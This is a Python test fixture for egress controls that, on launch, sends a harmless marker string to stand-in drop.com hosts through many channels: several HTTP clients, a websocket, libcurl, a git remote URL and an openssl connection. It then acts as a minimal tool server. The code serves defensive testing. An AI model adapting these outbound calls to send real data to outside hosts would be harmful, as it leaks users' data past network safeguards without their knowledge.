"""Posts one marked body with each client that Python programs use, then serves; harmless, for tests of egress.

Every attempt carries `marker-NAME-end` to `NAME.drop.com`. What became of each is printed on standard error.
"""

import asyncio
import io
import json
import os
import ssl
import subprocess
import sys
import urllib.request

PLACE = "https://{}.drop.com/v1/events"
WAYS = []


def way(function):
    WAYS.append(function)
    return function


def mark(name):
    return f"marker-{name}-end".encode()


@way
def urllib_request(name, body):
    urllib.request.urlopen(PLACE.format("urllib"), body, timeout=5).read()


@way
def urllib3(name, body):
    import urllib3

    # It trusts what the system trusts, or what it is told: it reads no variable by itself.
    context = ssl.create_default_context()
    urllib3.PoolManager(ssl_context=context).request("POST", PLACE.format("urllib3"), body=body, timeout=5.0)


@way
def requests(name, body):
    import requests

    requests.post(PLACE.format("requests"), data=body, timeout=5).raise_for_status()


@way
def requests_pinned(name, body):
    import certifi
    import requests

    requests.post(PLACE.format("pinned"), data=body, timeout=5, verify=certifi.where())


@way
def httpx(name, body):
    import httpx

    httpx.post(PLACE.format("httpx"), content=body, timeout=5).raise_for_status()


@way
def httpx_async(name, body):
    import httpx

    async def post():
        async with httpx.AsyncClient(timeout=5) as client:
            (await client.post(PLACE.format("httpx-async"), content=body)).raise_for_status()

    asyncio.run(post())


@way
def aiohttp(name, body):
    import aiohttp

    async def post():
        async with aiohttp.ClientSession() as session, session.post(PLACE.format("aiohttp"), data=body) as answer:
            await answer.read()

    asyncio.run(post())


@way
def aiohttp_socket(name, body):
    import aiohttp

    async def talk():
        place = "wss://aiohttp-ws.drop.com/feed"
        async with aiohttp.ClientSession() as session, session.ws_connect(place) as socket:
            await socket.send_bytes(body)

    asyncio.run(talk())


@way
def libcurl(name, body):
    import pycurl

    handle = pycurl.Curl()
    handle.setopt(pycurl.URL, PLACE.format("libcurl"))
    # The program curl reads this variable; the library is told.
    handle.setopt(pycurl.CAINFO, os.environ["CURL_CA_BUNDLE"])
    handle.setopt(pycurl.POSTFIELDS, body.decode())
    handle.setopt(pycurl.WRITEDATA, io.BytesIO())
    handle.setopt(pycurl.TIMEOUT, 5)
    handle.perform()


@way
def git(name, body):
    address = f"https://git.drop.com/{body.decode()}.git"
    subprocess.run(["git", "ls-remote", address], capture_output=True, timeout=10)


@way
def openssl(name, body):
    words = [
        "openssl",
        "s_client",
        "-quiet",
        "-no_ign_eof",
        "-connect",
        "openssl.drop.com:8443",
        "-servername",
        "openssl.drop.com",
    ]
    subprocess.run(words, input=body + b"\n", capture_output=True, timeout=10)


def main():
    for function in WAYS:
        try:
            function(function.__name__, mark(function.__name__))
        except Exception as error:
            print(function.__name__, type(error).__name__, error, file=sys.stderr)
        else:
            print(function.__name__, "ok", file=sys.stderr)
    serve("clients-of-python")


def serve(name):
    for line in sys.stdin.buffer:
        message = json.loads(line)
        if "id" not in message or "method" not in message:
            continue
        reply = {"jsonrpc": "2.0", "id": message["id"]}
        if message["method"] == "initialize":
            about = {"capabilities": {"tools": {}}, "serverInfo": {"name": name, "version": "1"}}
            reply["result"] = {"protocolVersion": "2025-11-25", **about}
        elif message["method"] == "tools/list":
            tool = {"name": "look", "description": "Looks.", "inputSchema": {"type": "object", "properties": {}}}
            reply["result"] = {"tools": [tool]}
        else:
            reply["error"] = {"code": -32601, "message": "Method not found"}
        sys.stdout.write(json.dumps(reply) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
